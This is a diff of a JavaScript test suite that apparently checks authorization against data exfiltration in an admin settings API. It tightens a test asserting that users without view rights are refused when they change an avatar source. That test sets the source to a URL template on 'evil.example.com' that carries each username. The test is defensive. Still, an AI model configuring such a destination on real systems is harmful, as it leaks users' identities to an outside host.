@@ -61,14 +61,14 @@ describeOnSqlite('data exfiltration: changing a destination', (server) => {
   test('names of users, by where their pictures come from', async () => {
     const change = { avatars: 'https://evil.example.com/%(username)s, initials' };
     const editor = await server().user(['svc_rbac.edit_system_settings']);
-    expect((await editor.api.patch('/admin/settings/', change)).status).toBe(403);
+    const refused = await editor.api.patch('/admin/settings/', change);
+    expect([refused.status, refused.body.required]).toEqual([403, 'svc_core.view_user']);
     expect((await editor.api.patch('/admin/settings/', { avatars: 'attributes.avatar,initials' })).status).toBe(200);
     const seeing = await server().user(['svc_rbac.edit_system_settings', 'svc_core.view_user']);
     expect((await seeing.api.patch('/admin/settings/', change)).status).toBe(200);
     expect((await editor.api.patch('/admin/settings/', { ...change, impersonation: true })).status).toBe(200);
   });
 
-  const credentials = { client_email: 'sync@example.com', private_key: 'a key' };
   test('attributes of users, as the password that a proxy sends to an application', async () => {
     const path = '/providers/proxy/';
     const rights = ['view', 'add', 'change'].map((verb) => `svc_providers_proxy.${verb}_proxyprovider`);
@@ -116,6 +116,7 @@ describeOnSqlite('data exfiltration: changing a destination', (server) => {
     expect((await api.patch(`${path}${pk}/`, { name: unique('client') })).status).toBe(200);
   });
 
+  const credentials = { client_email: 'sync@example.com', private_key: 'a key' };
   test.each([
     [
       'scim',
